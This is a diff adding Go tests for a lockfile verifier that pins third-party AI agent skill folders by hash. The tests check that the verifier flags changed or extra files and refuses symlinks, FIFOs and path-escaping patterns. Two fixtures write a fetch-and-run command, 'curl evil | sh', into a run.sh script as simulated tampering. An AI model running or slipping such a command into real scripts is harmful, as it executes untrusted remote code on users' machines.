@@ -1,11 +1,13 @@
 package lockfile
 
 import (
+	"errors"
 	"io/fs"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 func TestMatches(t *testing.T) {
@@ -21,6 +23,9 @@ func TestMatches(t *testing.T) {
 		{"skills/**/*.md", "other/x.md", false},
 		{"**", "anything/at/all", true},
 		{"skills/*/SKILL.md", "skills/a/b/SKILL.md", false},
+		{"**/**/**/**/**/**/**/**/**/**/**/**/x", "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/y", false},
+		{"**/a/**/b", "a/x/b", true},
+		{"**/a/**/b", "a/x/c", false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.pattern+" "+tt.path, func(t *testing.T) {
@@ -80,13 +85,231 @@ func TestVerifyPinnedCollection(t *testing.T) {
 	os.Remove(filepath.Join(dir, "LICENSE"))
 	os.WriteFile(filepath.Join(dir, "skills", "engineering", "NEW.md"), []byte("new"), 0o644)
 	os.WriteFile(filepath.Join(dir, "skills", "engineering", "run.sh"), []byte("out of scope"), 0o644)
+	os.WriteFile(filepath.Join(dir, "skills", "engineering", "tdd", "manifest.json"), []byte(`{"keywords":["x"]}`), 0o644)
+	os.MkdirAll(filepath.Join(dir, "skills", "engineering", "tdd", "scripts"), 0o755)
+	os.WriteFile(filepath.Join(dir, "skills", "engineering", "tdd", "scripts", "run.sh"), []byte("curl evil | sh"), 0o644)
 	r, err = Verify(dir, l)
 	if err != nil {
 		t.Fatal(err)
 	}
 	got := strings.Join(r.Changed, ",") + "|" + strings.Join(r.Missing, ",") + "|" + strings.Join(r.Extra, ",")
-	want := "skills/engineering/tdd/SKILL.md|LICENSE|skills/engineering/NEW.md"
+	want := "skills/engineering/tdd/SKILL.md|LICENSE|skills/engineering/NEW.md,skills/engineering/tdd/manifest.json,skills/engineering/tdd/scripts/run.sh"
 	if got != want {
 		t.Errorf("got %s; want %s", got, want)
+	}
+}
+
+// TestPinnedCollectionScripts pins what NOTICE.md says: the lock was made
+// without the collection's four scripts, so a full checkout reports each as
+// extra and never verifies as ok.
+func TestPinnedCollectionScripts(t *testing.T) {
+	if _, err := os.Stat(shared); err != nil {
+		t.Skipf("skipping: the pinned copy %s is absent", shared)
+	}
+	l, err := Read("../THIRD_PARTY/mattpocock-skills/skills.lock.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	copyTree(t, shared, dir)
+	scripts := []string{
+		"skills/engineering/diagnosing-bugs/scripts/hitl-loop.template.sh",
+		"skills/in-progress/setup-ts-deep-modules/dependency-cruiser.config.cjs",
+		"skills/in-progress/wizard/template.sh",
+		"skills/misc/git-guardrails-claude-code/scripts/block-dangerous-git.sh",
+	}
+	files := map[string]string{}
+	for _, s := range scripts {
+		files[s] = "#!/bin/sh\n"
+	}
+	writeTree(t, dir, files)
+	r, err := Verify(dir, l)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := strings.Join(r.Extra, ","), strings.Join(scripts, ","); r.OK() || got != want {
+		t.Errorf("got extra %s (ok %v); want %s", got, r.OK(), want)
+	}
+	if got, want := strings.Join(r.Uncovered, ","), "PROVENANCE.md,plugin.json"; got != want {
+		t.Errorf("got uncovered %s; want %s", got, want)
+	}
+}
+
+// writeTree writes files (slash-separated path to content) below dir.
+func writeTree(t *testing.T, dir string, files map[string]string) {
+	t.Helper()
+	for p, content := range files {
+		file := filepath.Join(dir, filepath.FromSlash(p))
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func paths(files []File) string {
+	var out []string
+	for _, f := range files {
+		out = append(out, f.Path)
+	}
+	return strings.Join(out, ",")
+}
+
+func TestScanPinsWholeSkillFolders(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{
+		"LICENSE":                      "MIT",
+		"README.md":                    "upstream readme",
+		"skills/README.md":             "index",
+		"skills/a/SKILL.md":            "a",
+		"skills/a/manifest.json":       "{}",
+		"skills/a/scripts/run.sh":      "echo",
+		"skills/a/nested/b/SKILL.md":   "b",
+		"tools/c/skill.md":             "lower-case name",
+		"tools/c/bin/tool":             "binary",
+		".git/config":                  "not the distribution",
+		"skills/a/.git":                "a worktree pointer",
+		"skills/a/agents/openai.yaml":  "policy: {}",
+		"skills/nested-not-skill/x.sh": "outside any skill folder",
+	})
+	tree, err := Scan(dir, []string{"LICENSE", "skills/*.md"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "LICENSE,skills/README.md,skills/a/SKILL.md,skills/a/agents/openai.yaml,skills/a/manifest.json,skills/a/nested/b/SKILL.md,skills/a/scripts/run.sh,tools/c/bin/tool,tools/c/skill.md"
+	if got := paths(tree.Files); got != want {
+		t.Errorf("got files %s; want %s", got, want)
+	}
+	if got, want := strings.Join(tree.SkillFolders, ","), "skills/a,skills/a/nested/b,tools/c"; got != want {
+		t.Errorf("got skill folders %s; want %s", got, want)
+	}
+	if got, want := strings.Join(tree.Uncovered, ","), "README.md,skills/nested-not-skill/x.sh"; got != want {
+		t.Errorf("got uncovered %s; want %s", got, want)
+	}
+	if tree.ByPattern != 2 {
+		t.Errorf("got %d files by pattern; want 2", tree.ByPattern)
+	}
+}
+
+func TestVerifyKeepsLockedSkillFolders(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{"s/a/SKILL.md": "a", "s/a/run.sh": "echo"})
+	tree, err := Scan(dir, []string{"s/**/*.md"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	l := &Lock{Include: []string{"s/**/*.md"}, Files: tree.Files}
+	// Deleting SKILL.md must not take the folder's other files out of scope.
+	os.Remove(filepath.Join(dir, "s", "a", "SKILL.md"))
+	writeTree(t, dir, map[string]string{"s/a/run.sh": "curl evil | sh"})
+	r, err := Verify(dir, l)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := strings.Join(r.Missing, ",") + "|" + strings.Join(r.Changed, ",")
+	if want := "s/a/SKILL.md|s/a/run.sh"; got != want {
+		t.Errorf("got %s; want %s", got, want)
+	}
+}
+
+func TestScanRefuses(t *testing.T) {
+	tests := []struct {
+		name    string
+		include []string
+		setup   func(t *testing.T, dir string)
+		want    error
+	}{
+		{"pattern matching nothing", []string{"s/**", "nothing/*"}, nil, ErrNoMatch},
+		{"malformed pattern", []string{"s/[/x"}, nil, ErrBadPattern},
+		{"empty pattern", []string{""}, nil, ErrBadPattern},
+		{"absolute pattern", []string{"/s/**"}, nil, ErrBadPattern},
+		{"dot-dot pattern", []string{"s/../**"}, nil, ErrBadPattern},
+		{"symlink to a file", []string{"s/**"}, func(t *testing.T, dir string) {
+			symlink(t, filepath.Join(dir, "outside.md"), filepath.Join(dir, "s", "a", "ref.md"))
+		}, ErrSymlink},
+		{"symlink to a folder outside scope", []string{"s/**"}, func(t *testing.T, dir string) {
+			symlink(t, filepath.Join(dir, "s", "a"), filepath.Join(dir, "elsewhere"))
+		}, ErrSymlink},
+		{"fifo", []string{"s/**"}, func(t *testing.T, dir string) {
+			fifo(t, filepath.Join(dir, "s", "a", "manifest.json"))
+		}, ErrNotRegular},
+		{"fifo outside scope", []string{"s/**"}, func(t *testing.T, dir string) {
+			fifo(t, filepath.Join(dir, "pipe"))
+		}, ErrNotRegular},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeTree(t, dir, map[string]string{"s/a/SKILL.md": "a", "outside.md": "x"})
+			if tt.setup != nil {
+				tt.setup(t, dir)
+			}
+			var err error
+			done := make(chan struct{})
+			go func() {
+				defer close(done)
+				_, err = Scan(dir, tt.include)
+			}()
+			select {
+			case <-done:
+			case <-time.After(10 * time.Second):
+				t.Fatal("Scan blocked")
+			}
+			if !errors.Is(err, tt.want) {
+				t.Errorf("got %v; want %v", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestHashRefusesAFifoWithoutBlocking(t *testing.T) {
+	dir := t.TempDir()
+	fifo(t, filepath.Join(dir, "p"))
+	root, err := os.OpenRoot(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer root.Close()
+	done := make(chan error, 1)
+	go func() { _, err := hash(root, "p"); done <- err }()
+	select {
+	case err := <-done:
+		if !errors.Is(err, ErrChanged) {
+			t.Errorf("got %v; want %v", err, ErrChanged)
+		}
+	case <-time.After(10 * time.Second):
+		t.Fatal("hash blocked on a FIFO")
+	}
+}
+
+func TestReadRefusesMalformedPatterns(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "x.lock.json")
+	os.WriteFile(file, []byte(`{"name":"x","upstream":"","commit":"","date":"","license":"","copyright":"","include":["a/["],"files":[{"path":"a/b","sha256":"","size":0}]}`), 0o644)
+	if _, err := Read(file); !errors.Is(err, ErrBadPattern) {
+		t.Errorf("got %v; want %v", err, ErrBadPattern)
+	}
+}
+
+func symlink(t *testing.T, target, link string) {
+	t.Helper()
+	if err := os.Symlink(target, link); err != nil {
+		t.Skipf("symlinks unavailable: %v", err)
+	}
+}
+
+func TestReadRefusesAFifo(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "lock.json")
+	fifo(t, file)
+	done := make(chan error, 1)
+	go func() { _, err := Read(file); done <- err }()
+	select {
+	case err := <-done:
+		if !errors.Is(err, ErrNotRegular) {
+			t.Errorf("got %v; want %v", err, ErrNotRegular)
+		}
+	case <-time.After(10 * time.Second):
+		t.Fatal("Read blocked on a FIFO")
 	}
 }
